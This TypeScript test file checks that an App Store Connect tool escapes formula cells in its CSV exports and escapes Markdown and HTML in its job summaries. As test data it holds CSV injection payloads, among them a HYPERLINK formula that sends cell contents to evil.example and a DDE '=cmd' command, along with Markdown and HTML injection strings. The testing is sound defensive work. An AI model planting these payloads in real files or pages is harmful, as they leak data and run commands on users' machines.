/**
 * Issue 11, items 3 and 4: CSV files neutralise formulas (JSON and Apple's TSV stay exact), and
 * the job summary shows server text as text: no link, image, emphasis or HTML.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { SALES_COLUMNS, addSalesReport } from '../../fake-app-store-connect/routes/reports.js';
import { runAction } from '../support/action.js';
import { FAST_RETRY, startFixture, virtualClock, type Fixture } from '../support/fixture.js';
import { BUNDLE_ID, seedApp, seedGroup, seedTester, seedUser } from '../support/testers-seed.js';

let fx: Fixture;
let work: string;

const FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '@SUM(1+1)', '+1+1', '-2+3', '\tx'];

beforeAll(async () => {
  fx = await startFixture();
  work = mkdtempSync(path.join(tmpdir(), 'hostile-files-'));
});
afterAll(async () => {
  await fx.close();
  rmSync(work, { recursive: true, force: true });
});
beforeEach(() => {
  fx.server.store.clear();
  seedApp(fx.server.store);
});

const act = (inputs: Record<string, string | undefined>) =>
  runAction(fx.inputs({ app: BUNDLE_ID, ...inputs }), { retry: FAST_RETRY, clock: virtualClock() });

describe('CSV files neutralise formulas', () => {
  test('list-testers: names that look like formulas get a leading quote in CSV, stay exact in JSON', async () => {
    seedGroup(fx.server.store, '=1+2', { id: 'g-f' });
    FORMULAS.forEach((f, i) =>
      seedTester(fx.server.store, `t${i}@example.com`, ['g-f'], { firstName: f, lastName: '-5' }),
    );
    const csvFile = path.join(work, 'testers.csv');
    const r = await act({ operation: 'list-testers', 'output-file': csvFile, format: 'csv' });
    expect(r.failed).toBe(false);
    const cells = readFileSync(csvFile, 'utf8')
      .trimEnd()
      .split('\r\n')
      .slice(1)
      .flatMap((l) =>
        l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/).map((c) => c.replace(/^"|"$/g, '').replace(/""/g, '"')),
      );
    for (const c of cells) if (c !== '-5') expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells).toContain("'@SUM(1+1)");
    expect(cells).toContain("'=1+2");
    // A plain negative number is not a formula.
    expect(cells).toContain('-5');

    const jsonFile = path.join(work, 'testers.json');
    await act({ operation: 'list-testers', 'output-file': jsonFile, format: 'json' });
    const rows = JSON.parse(readFileSync(jsonFile, 'utf8')) as Array<{ first_name: string }>;
    expect(rows.map((t) => t.first_name).sort()).toEqual([...FORMULAS].sort());
  });

  test('list-users: the same in CSV', async () => {
    const user = seedUser(fx.server.store, 'ada@example.com');
    user.attributes.firstName = '=cmd|" /C calc"!A0';
    const file = path.join(work, 'users.csv');
    const r = await act({ operation: 'list-users', 'output-file': file, format: 'csv' });
    expect(r.failed).toBe(false);
    expect(readFileSync(file, 'utf8')).toContain(`"'=cmd|"" /C calc""!A0`);
  });

  test('a sales report: CSV cells neutralised, the TSV as received stays exact', async () => {
    const row: Record<string, string> = Object.fromEntries(SALES_COLUMNS.map((c) => [c, '']));
    Object.assign(row, {
      Provider: 'APPLE',
      SKU: 'X1',
      Title: '=HYPERLINK("https://evil.example","x")',
      'Product Type Identifier': '1F',
      Units: '1',
      'Developer Proceeds': '-0.70',
      'Begin Date': '03/09/2025',
      'End Date': '03/09/2025',
      'Customer Currency': 'USD',
      'Currency of Proceeds': 'USD',
      'Country Code': 'US',
      'Apple Identifier': '1450001',
    });
    addSalesReport(fx.server.store, { vendorNumber: '85012345', reportDate: '2025-03-09', rows: [row] });
    const base = {
      operation: 'sales-report',
      'vendor-number': '85012345',
      'report-date': '2025-03-09',
      'output-dir': work,
      app: undefined,
    };
    const csv = await act({ ...base, format: 'csv' });
    expect(csv.failed).toBe(false);
    const text = readFileSync(csv.outputs['report-file'] as string, 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example"",""x"")"`);
    expect(text).toContain(',-0.70,');
    const tsv = await act({ ...base, format: 'tsv' });
    const file = tsv.outputs['report-file'] as string;
    const raw = readFileSync(file);
    const body = file.endsWith('.gz') ? gunzipSync(raw).toString('utf8') : raw.toString('utf8');
    expect(body).toContain('\t=HYPERLINK("https://evil.example","x")\t');
  });
});

describe('the job summary shows server text as text', () => {
  test('names with link, image, emphasis and HTML syntax', async () => {
    const names = [
      '[Click](https://evil.example)',
      '![x](https://evil.example/p.png)',
      '**loud** _quiet_ ~~gone~~',
      '<img src=x>',
      'see https://evil.example and www.evil.example',
      '\\[still](https://evil.example)',
    ];
    names.forEach((n, i) => seedGroup(fx.server.store, n, { id: `g-${i}` }));
    const r = await act({ operation: 'list-groups' });
    expect(r.failed).toBe(false);
    expect(r.summary).toContain('\\[Click\\](https:\u200B//evil.example)');
    expect(r.summary).toContain('!\\[x\\]');
    // Every delimiter that could open emphasis is escaped (a closer alone does nothing).
    expect(r.summary).toContain('\\*\\*loud\\** \\_quiet_ \\~\\~gone\\~~');
    expect(r.summary).toContain('&lt;img src=x&gt;');
    expect(r.summary).toContain('www\u200B.evil.example');
    expect(r.summary).toContain('\\\\\\[still\\]');
    // The action's own links (App Store Connect pages, from plain ids) are the only ones: the
    // group names are their escaped text. Without them, no link or image syntax is left anywhere.
    expect(r.summary).toContain('](https://appstoreconnect.apple.com/apps/');
    const own = /\]\(https:\/\/appstoreconnect\.apple\.com\/apps\/[\w/-]+\)/g;
    const rest = r.summary.replace(own, ']');
    expect(rest).not.toMatch(/(^|[^\\])\[[^\]]*(^|[^\\])\]\(/m);
    expect(rest).not.toMatch(/https:\/\//);
  });
});
